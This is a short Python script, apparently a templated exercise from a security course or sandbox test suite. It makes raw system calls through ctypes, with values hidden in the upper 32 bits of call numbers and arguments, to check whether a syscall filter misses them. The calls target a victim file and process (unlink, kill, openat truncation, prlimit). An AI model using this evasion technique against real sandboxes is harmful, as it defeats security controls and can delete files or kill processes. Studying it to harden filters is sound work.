"""Hides system calls and their arguments in the upper halves that a filter may forget to read."""
# attack: week=03 exercise=pyramid
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
HIGH = 1 << 32
for number, arguments in (
    (@SYS:unlink@ + HIGH, (b"@VICTIM@",)),
    (@SYS:kill@ + HIGH, (@PID@, 9)),
    (@SYS:kill@, (@PID@ + HIGH, 9)),
    (@SYS:prlimit64@, (@PID@ + HIGH, 7, (ctypes.c_long * 2)(0, 0), None)),
    (@SYS:openat@, (-100, b"@VICTIM@", HIGH | 0o1001, 0)),
    (@SYS:openat@, (-100, b"@VICTIM@", -HIGH | 0o1000, 0)),
    (@SYS:socketpair@, (1 + HIGH, 2 + HIGH, 0, (ctypes.c_int * 2)())),
    (600, ()),
    (-1 & 0xFFFFFFFF, ()),
):
    wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    print(libc.syscall(ctypes.c_long(number), *wide), os.strerror(ctypes.get_errno()))
